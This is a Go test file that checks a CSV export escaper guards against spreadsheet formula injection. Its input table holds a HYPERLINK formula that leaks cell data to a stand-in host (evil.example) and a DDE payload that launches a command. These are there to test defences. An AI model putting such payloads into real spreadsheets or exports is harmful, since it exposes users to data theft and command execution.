package cases_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"klubba/cases"
)

func TestP23NoCellOfAnExportIsAFormula(t *testing.T) {
	for text, want := range map[string]string{
		`=HYPERLINK("http://evil.example?"&A1)`: `'=HYPERLINK("http://evil.example?"&A1)`,
		"+46 63 14 75 00":                       "'+46 63 14 75 00",
		"-1+cmd|' /C calc'!A0":                  "'-1+cmd|' /C calc'!A0",
		"@SUM(A1)":                              "'@SUM(A1)",
		"\t=1+1":                                "'\t=1+1",
		"\r=1+1":                                "'\r=1+1",
		"\n=1+1":                                "'\n=1+1",
		"  =1+1":                                "'  =1+1",
		"\ufeff=1+1":                            "'\ufeff=1+1",
		"＝1+1":                                  "'＝1+1",
		"＠SUM(A1)":                              "'＠SUM(A1)",
		"Ärende om = och +":                     "Ärende om = och +",
		"2020-12-17":                            "2020-12-17",
		"":                                      "",
	} {
		if got := cases.Cell(text); got != want {
			t.Errorf("%q becomes %q, want %q", text, got, want)
		}
	}
}

// TestP23EveryTextComesBackFromItsCell writes any texts as CSV and reads them as
// a spreadsheet does.
func TestP23EveryTextComesBackFromItsCell(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.OneOf(rapid.String(), rapid.StringMatching(`[ \x{feff}]*[=+@\t\r\n-].*`)).Draw(t, "text")
		var file strings.Builder
		w := csv.NewWriter(&file)
		if err := w.Write([]string{"HSN", cases.Cell(text)}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		row, err := csv.NewReader(strings.NewReader(file.String())).Read()
		if err != nil || len(row) != 2 {
			t.Fatalf("%q: %q, %v", text, row, err)
		}
		if strings.ContainsAny(strings.TrimLeft(row[1], " \ufeff")[:min(1, len(strings.TrimLeft(row[1], " \ufeff")))], "=+-@\t\r\n") {
			t.Fatalf("%q is read as %q", text, row[1])
		}
		if got, want := strings.TrimPrefix(row[1], "'"), strings.ReplaceAll(strings.TrimPrefix(text, "'"), "\r\n", "\n"); got != want {
			t.Fatalf("%q comes back as %q", text, got)
		}
	})
}
